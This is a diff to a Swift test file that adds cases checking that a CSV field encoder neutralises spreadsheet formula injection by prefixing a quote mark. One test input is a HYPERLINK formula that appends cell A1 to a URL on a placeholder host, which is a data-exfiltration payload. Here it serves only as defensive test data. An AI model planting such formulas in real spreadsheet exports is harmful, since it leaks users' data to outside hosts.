@@ -113,6 +113,14 @@ struct ReadOptionsTests {
         #expect(ReadOptions.csvField("") == "\"\"")
         #expect(ReadOptions.csvField(#"say "hi", \o/"#) == #""say ""hi"", \\o/""#)
         #expect(ReadOptions.csvField("plain") == "plain")
+        // Formula injection (OWASP): a leading = + - @ tab or CR is neutralised with a quote mark.
+        #expect(ReadOptions.csvField(#"=HYPERLINK("http://x/"&A1,"open")"#) == #""'=HYPERLINK(""http://x/""&A1,""open"")""#)
+        #expect(ReadOptions.csvField("+1") == "'+1")
+        #expect(ReadOptions.csvField("-2") == "'-2")
+        #expect(ReadOptions.csvField("@SUM(A1)") == "\"'@SUM(A1)\"")
+        #expect(ReadOptions.csvField("\tx") == "\"'\tx\"")
+        #expect(ReadOptions.csvField("\rx") == "\"'\rx\"")
+        #expect(ReadOptions.csvField("a=b") == "a=b")
     }
 
     @Test("in the GET form a value that is no operator expression is a function argument")
